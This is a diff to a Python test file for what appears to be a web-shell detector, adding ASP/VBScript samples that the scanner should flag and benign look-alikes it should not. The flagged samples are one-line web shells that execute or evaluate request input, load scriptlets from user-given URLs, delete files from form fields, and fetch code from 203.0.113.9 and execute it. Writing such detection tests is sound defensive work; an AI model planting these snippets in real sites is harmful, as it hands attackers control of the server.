@@ -11,6 +11,7 @@ from webhunt.detect.semantic.vbscript import _statements
 from webhunt.model import FileContext, Language, Reason, Verdict
 
 CMD, FILE, READ = "WH-S-ASP-002", "WH-S-ASP-012", "WH-S-ASP-013"
+CODE, LOADED = "WH-S-ASP-001", "WH-S-ASP-007"
 
 
 def analyse(page: str, relpath: str = "x.asp") -> list[Reason]:
@@ -97,6 +98,47 @@ x = Request.Cookies("k") : Go x %>""",
         CMD,
     ),
     ("for each", "<% For Each k In Request.Form : fso.DeleteFolder k : Next %>", FILE),
+    ("execute", '<% c = Request.Item("z") : Execute c %>', CODE),
+    ("execute global in parentheses", '<% ExecuteGlobal(Request.Form("z")) %>', CODE),
+    ("eval", '<% Response.Write Eval(Request("e")) %>', CODE),
+    (
+        "script control",
+        """<% Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
+sc.Language = "VBScript"
+sc.ExecuteStatement Request.Form("code") %>""",
+        CODE,
+    ),
+    ("scriptlet moniker", '<% Set x = GetObject("script:" & Request.QueryString("u")) %>', LOADED),
+    (
+        "a method of the page's own class",
+        """<% Class Runner
+  Public Sub Go(ByVal x)
+    ExecuteGlobal x
+  End Sub
+End Class
+Dim r : Set r = New Runner
+r.Go Request.Cookies("k") %>""",
+        CODE,
+    ),
+    (
+        "a class method's result",
+        """<% Class Box
+  Public Function Unwrap(v)
+    Unwrap = Mid(v, 3)
+  End Function
+End Class
+Set b = New Box
+Execute b.Unwrap(Request("p")) %>""",
+        CODE,
+    ),
+    (
+        "downloaded code",
+        """<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
+h.Open "GET", "http://203.0.113.9/u.txt", False
+h.Send
+Execute h.ResponseText %>""",
+        CODE,
+    ),
 ]
 
 
@@ -136,6 +178,29 @@ fso.DeleteFile Server.MapPath("/up/" & t) %>""",
     ("server's own variable", '<% p = Request.ServerVariables("SCRIPT_NAME") : fso.DeleteFile p & ".bak" %>'),
     ("run of an unknown object", '<% job.Run Request("x") %>'),
     ("comparison is no assignment", '<% If p = Request("p") Then fso.DeleteFile p %>'),
+    ("execute of the page's own code", '<% Execute ReadTemplate(Server.MapPath("/inc/menu.inc")) %>'),
+    (
+        "eval of a field name from a fixed list",
+        '<% f = "title" : Response.Write Eval("rs(""" & f & """)") %>',
+    ),
+    ("numeric eval", '<% Response.Write Eval(CInt(Request("a")) & "+1") %>'),
+    (
+        "a method of an unknown object",
+        """<% Class Runner
+  Public Sub Go(ByVal x)
+    ExecuteGlobal x
+  End Sub
+End Class
+Set db = Server.CreateObject("ADODB.Connection")
+db.Execute Request("q") %>""",
+    ),
+    (
+        "downloaded data written out",
+        """<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
+h.Open "GET", "https://example.com/feed.xml", False
+h.Send
+Response.Write Server.HTMLEncode(h.ResponseText) %>""",
+    ),
     (
         "a procedure's own variable",
         """<% Sub A() : p = Request("p") : End Sub
@@ -146,7 +211,7 @@ Sub B() : p = "/x.txt" : fso.DeleteFile p : End Sub %>""",
 
 @pytest.mark.parametrize(("name", "page"), SAFE, ids=[s[0] for s in SAFE])
 def test_safe_page_has_no_flow(name: str, page: str) -> None:
-    assert not {FILE, CMD} & ids(page)
+    assert not {FILE, CMD, CODE, LOADED} & ids(page)
 
 
 def test_description_follows_the_path() -> None:
